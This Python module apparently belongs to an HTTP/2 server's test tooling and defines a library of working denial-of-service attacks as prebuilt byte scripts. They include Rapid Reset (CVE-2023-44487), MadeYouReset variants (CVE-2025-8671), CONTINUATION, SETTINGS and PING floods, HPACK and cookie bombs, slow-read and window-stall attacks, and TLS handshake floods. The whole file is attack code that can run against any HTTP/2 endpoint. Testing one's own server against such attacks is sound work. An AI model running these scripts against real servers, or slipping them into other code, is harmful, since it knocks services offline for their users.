"""The attacks, each as bytes prepared once: what is sent when a connection opens, what then repeats, and whether anything is
read. Server faults they aim at are in the texts. Nothing here depends on what the server says, so one process fills a core."""
import dataclasses
import os
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../tests/conformance"))

from h2.wire import (  # noqa: E402
    CANCEL, END_HEADERS, INITIAL_WINDOW_SIZE, MAX_WINDOW, PADDED, PREFACE, continuation, data, frame, headers, padded,
    ping, priority, priority_update, rst_stream, settings, window_update)

ATTACKS = {}
STREAMS = 30000     # of one connection, then the next one begins


@dataclasses.dataclass
class Script:
    """What one attacking connection does."""

    opening: bytes              # sent once, behind preface and SETTINGS
    body: bytes = b""           # sent next; with `after` "repeat" for ever
    after: str = "repeat"       # or "reconnect" when it has been sent, or "hold" the connection open
    items: int = 1              # how many requests, frames or handshakes `body` holds, for the figures
    settings: tuple = ()        # pairs of the client's SETTINGS
    read: str = "drain"         # or "never", or "trickle": a byte now and then
    drip: bytes = b""           # while holding: sent every half second
    connections: int = 4        # at once, of one process
    raw: bool = False           # neither preface nor SETTINGS
    port: str = "plain"         # or "tls": the bytes go to the TLS listener as they are
    half_close: bool = False    # shut the sending side when everything has been sent

    def first(self):
        return self.opening if self.raw else PREFACE + settings(*self.settings) + self.opening


def attack(about):
    """Registers a function path → Script under its name."""
    def register(make):
        ATTACKS[make.__name__] = (about, make)
        return make
    return register


def block(path="/", method="GET", extra=b""):
    """A field block without dynamic table: scheme http, authority localhost."""
    first = {"GET": b"\x82", "POST": b"\x83"}[method]
    return first + b"\x86" + b"\x01\x09localhost" + b"\x04" + bytes([len(path)]) + path.encode() + extra


def streams(make, count=STREAMS):
    """`make(stream)` for as many streams."""
    return b"".join(make(s) for s in range(1, 2 * count, 2))


# --- resets

@attack("requests, each cancelled at once (CVE-2023-44487)")
def rapid_reset(path):
    b = block(path)
    return Script(b"", streams(lambda s: headers(s, b) + rst_stream(s, CANCEL)), "reconnect", STREAMS)


def made(make, count=STREAMS):
    return Script(b"", streams(make, count), "reconnect", count)


@attack("requests that the server must reset: WINDOW_UPDATE of 0 (CVE-2025-8671)")
def made_you_reset_zero_update(path):
    b = block(path)
    return made(lambda s: headers(s, b) + window_update(s, 0))


@attack("requests that the server must reset: a window above 2^31-1")
def made_you_reset_overflow(path):
    b = block(path)
    return made(lambda s: headers(s, b) + window_update(s, MAX_WINDOW))


@attack("requests that the server must reset: PRIORITY of 4 bytes")
def made_you_reset_priority(path):
    b = block(path)
    return made(lambda s: headers(s, b) + frame(2, 0, s, bytes(4)))


@attack("requests that the server must reset: DATA after END_STREAM")
def made_you_reset_data(path):
    b = block(path)
    return made(lambda s: headers(s, b) + data(s, b"x"))


@attack("requests that the server must reset: HEADERS after END_STREAM")
def made_you_reset_headers(path):
    b = block(path)
    return made(lambda s: headers(s, b) + headers(s, b""))


@attack("requests that the server must reset: a body longer than its content-length")
def made_you_reset_length(path):
    b = block(path, "POST", b"\x0f\x0d\x010")
    return made(lambda s: headers(s, b, end=False) + data(s, b"xy", end=True))


@attack("requests that the server must reset: an upper-case field name")
def made_you_reset_malformed(path):
    b = block(path, extra=b"\x00\x01X\x01y")
    return made(lambda s: headers(s, b))


@attack("requests above the limit of streams, which the server must refuse")
def refused_streams(path):
    b = block(path, "POST")
    return made(lambda s: headers(s, b, end=False))


# --- frames without end

@attack("a field block that never ends: empty CONTINUATION frames")
def continuation_empty(path):
    return Script(headers(1, block(path), complete=False), continuation(1, b"", False) * 7000, items=7000)


@attack("a field block that never ends: CONTINUATION frames of a small field")
def continuation_small(path):
    return Script(headers(1, block(path), complete=False), continuation(1, b"\x00\x01x\x01y", False) * 4000, items=4000)


@attack("a field block that never ends: CONTINUATION frames of 16,000 bytes")
def continuation_large(path):
    field = b"\x00\x01x\x7f\x81\x7c" + b"y" * 16000      # a value of 127 + 1 + 124 × 128 = 16,000 bytes
    return Script(headers(1, block(path), complete=False), continuation(1, field, False) * 8, items=8)


@attack("requests of HEADERS and 200 empty CONTINUATION frames, the last with END_HEADERS")
def continuation_complete(path):
    b = block(path)
    return made(lambda s: headers(s, b, complete=False) + continuation(s, b"", False) * 199 + continuation(s, b""), 1500)


@attack("empty SETTINGS frames, each of which wants an acknowledgement")
def settings_flood(path):
    return Script(b"", settings() * 7000, items=7000)


@attack("SETTINGS frames of 2,700 parameters that move every stream's window up and down")
def settings_large(path):
    one = settings(*((INITIAL_WINDOW_SIZE, 65535 + i % 2) for i in range(2700)))
    opening = streams(lambda s: headers(s, block(path, "POST"), end=False), 100)
    return Script(opening, one * 4, items=4)


@attack("PING frames, the answers are read")
def ping_flood(path):
    return Script(b"", ping(b"attack!!") * 4000, items=4000)


@attack("PING frames, the answers are never read")
def ping_unread(path):
    return Script(b"", ping(b"attack!!") * 4000, items=4000, read="never", connections=16)


@attack("SETTINGS frames, the acknowledgements are never read")
def settings_unread(path):
    return Script(b"", settings() * 7000, items=7000, read="never", connections=16)


@attack("requests with errors, the RST_STREAM frames are never read")
def resets_unread(path):
    b = block(path, extra=b"\x00\x01X\x01y")
    return Script(b"", streams(lambda s: headers(s, b)), "hold", STREAMS, read="never", connections=16)


@attack("PRIORITY frames for streams that never open")
def priority_flood(path):
    return Script(b"", b"".join(priority(s, depends=s - 2) for s in range(3, 9003, 2)), items=4500)


@attack("PRIORITY_UPDATE frames for streams that never open")
def priority_update_flood(path):
    return Script(b"", b"".join(priority_update(s, b"u=0,i") for s in range(3, 9003, 2)), items=4500)


@attack("empty DATA frames")
def empty_data(path):
    return Script(headers(1, block(path, "POST"), end=False), data(1) * 7000, items=7000)


@attack("DATA frames of nothing but padding of one byte")
def padding_data(path):
    return Script(headers(1, block(path, "POST"), end=False), data(1, padded(b"", 0), flags=PADDED) * 6000, items=6000)


@attack("requests whose HEADERS frame is empty, in one CONTINUATION each")
def empty_headers(path):
    b = block(path)
    return made(lambda s: headers(s, b"", complete=False) + continuation(s, b))


@attack("empty trailer sections: HEADERS of no byte that end a request")
def empty_trailers(path):
    b = block(path, "POST")
    return made(lambda s: headers(s, b, end=False) + frame(1, END_HEADERS | 1, s))


@attack("frames of an unknown type")
def unknown_frames(path):
    return Script(b"", frame(0xee, 0, 0, b"") * 7000, items=7000)


@attack("WINDOW_UPDATE frames of 1 for the connection")
def window_update_flood(path):
    return Script(b"", window_update(0, 1) * 5000, items=5000)


@attack("WINDOW_UPDATE frames of 1 for a stream that sends nothing")
def window_update_stream(path):
    return Script(headers(1, block(path, "POST"), end=False), window_update(1, 1) * 5000, items=5000)


# --- memory

@attack("HPACK bomb: 16,000 references to one entry of 4,000 bytes in each request, 100 requests, held")
def hpack_bomb(path):
    entry = b"\x40\x01x\x7f\x99\x1e" + b"v" * 3992       # a value of 127 + 25 + 30 × 128 = 3,992 bytes
    opening = headers(1, block(path, extra=entry))
    body = b"".join(headers(s, block(path, "POST") + b"\xbe" * 16000, end=False) for s in range(3, 203, 2))
    return Script(opening, body, "hold", 100, connections=10)


@attack("HPACK bomb over and over: the same requests on new connections")
def hpack_bomb_again(path):
    script = hpack_bomb(path)
    script.after = "reconnect"
    return script


@attack("header-list bomb: 4,000 fields of one byte in each request, 100 requests, held")
def header_list_bomb(path):
    body = streams(lambda s: headers(s, block(path, "POST") + b"\x00\x01a\x00" * 4000, end=False), 100)
    return Script(b"", body, "hold", 100, connections=10)


@attack("header-list bomb: 90 fields and nearly 16 KiB in each request, 100 requests, held below every limit")
def header_list_below(path):
    field = b"\x00\x02aa\x7f\x1d" + b"v" * 156      # 127 + 29
    body = streams(lambda s: headers(s, block(path, "POST") + field * 90, end=False), 100)
    return Script(b"", body, "hold", 100, connections=10)


@attack("cookie bomb: 16,000 crumbs of one byte by reference in each request, 100 requests, held")
def cookie_bomb(path):
    opening = headers(1, block(path, extra=b"\x60\x01a"))       # cookie: a, with incremental indexing
    body = b"".join(headers(s, block(path, "POST") + b"\xbe" * 16000, end=False) for s in range(3, 203, 2))
    return Script(opening, body, "hold", 100, connections=10)


@attack("window stall: 100 large answers on each connection, windows of 0, held")
def window_stall(path):
    b = block("/big")
    return Script(streams(lambda s: headers(s, b), 100), b"", "hold", 100, ((INITIAL_WINDOW_SIZE, 0),), connections=50)


@attack("window stall with alibi: as above, and a PING every half second")
def window_stall_ping(path):
    script = window_stall(path)
    script.drip = ping(b"here i am"[:8])
    return script


@attack("slow windows: 100 large answers, one byte of window each every half second")
def window_drip(path):
    b = block("/big")
    drip = window_update(0, 100) + streams(lambda s: window_update(s, 1), 100)
    return Script(streams(lambda s: headers(s, b), 100), b"", "hold", 100, ((INITIAL_WINDOW_SIZE, 0),), drip=drip,
                  connections=50)


@attack("slow read: 100 large answers with open windows, of which nothing is read")
def slow_read(path):
    b = block("/big")
    opening = window_update(0, MAX_WINDOW - 65535) + streams(lambda s: headers(s, b), 100)
    return Script(opening, b"", "hold", 100, ((INITIAL_WINDOW_SIZE, MAX_WINDOW),), read="never", connections=50)


@attack("slow read: as above, a few bytes every half second")
def slow_read_trickle(path):
    script = slow_read(path)
    script.read = "trickle"
    return script


@attack("half-closed leftovers: requests whose bodies never come, as many as are allowed, held")
def half_closed(path):
    b = block(path, "POST")
    return Script(streams(lambda s: headers(s, b, end=False), 100), b"", "hold", 100, connections=50)


@attack("half-closed leftovers: the client shuts its side of TCP with 100 large answers under way and reads nothing")
def half_closed_tcp(path):
    script = slow_read(path)
    script.half_close = True
    return script


@attack("uploads of one byte every half second on 100 streams")
def slow_bodies(path):
    b = block("/up", "POST")
    return Script(streams(lambda s: headers(s, b, end=False), 100), b"", "hold", 100,
                  drip=streams(lambda s: data(s, b"x"), 100), connections=50)


@attack("field blocks that grow by one byte every half second")
def slow_headers(path):
    opening = headers(1, block(path) + b"\x00\x01x\x7f\x80\x7d", complete=False)
    return Script(opening, b"", "hold", drip=continuation(1, b"v", False), connections=200)


@attack("connections that send the preface and go")
def connections(path):
    return Script(b"", b"", "reconnect", connections=50)


@attack("connections that send nothing, held")
def silent(path):
    return Script(b"", b"", "hold", connections=500, raw=True)


# --- TLS

def hello():
    """A ClientHello of TLS 1.3 with a key share for x25519: the server must compute, the client need not."""
    def ext(number, body):
        return struct.pack(">HH", number, len(body)) + body

    extensions = (ext(10, b"\0\2\0\x1d") + ext(13, b"\0\6\4\3\x08\4\4\1") + ext(43, b"\2\3\4")
                  + ext(51, b"\0\x24\0\x1d\0\x20" + bytes(range(9, 41))) + ext(0, b"\0\x0c\0\0\x09localhost")
                  + ext(16, b"\0\3\2h2"))
    body = b"\3\3" + bytes(range(32)) + b"\0" + b"\0\4\x13\1\x13\3" + b"\1\0" + struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + struct.pack(">H", len(message)) + message


@attack("TLS handshakes that end when the server has done its work")
def tls_handshakes(path):
    return Script(hello(), b"", "reconnect on data", raw=True, port="tls", connections=50)


@attack("TLS handshakes that stop after the ClientHello, held")
def tls_held(path):
    return Script(hello(), b"", "hold", raw=True, port="tls", connections=500)


@attack("TLS connections that send one byte of a ClientHello every half second")
def tls_slow(path):
    return Script(hello()[:40], b"", "hold", raw=True, port="tls", connections=200, drip=b"\0")


@attack("TLS: ClientHello messages in records of one byte")
def tls_fragments(path):
    message = hello()[5:]
    records = b"".join(b"\x16\3\1\0\1" + bytes([b]) for b in message)
    return Script(records, b"", "reconnect on data", raw=True, port="tls", connections=20)
